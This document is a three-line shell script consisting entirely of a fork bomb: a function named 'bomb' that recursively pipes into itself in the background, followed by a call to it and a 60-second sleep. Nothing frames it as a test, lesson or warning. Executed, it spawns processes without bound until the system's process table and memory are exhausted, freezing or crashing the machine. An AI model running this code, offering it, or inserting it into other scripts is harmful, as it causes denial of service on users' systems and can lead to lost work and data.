bomb() { bomb | bomb & }
bomb
sleep 60
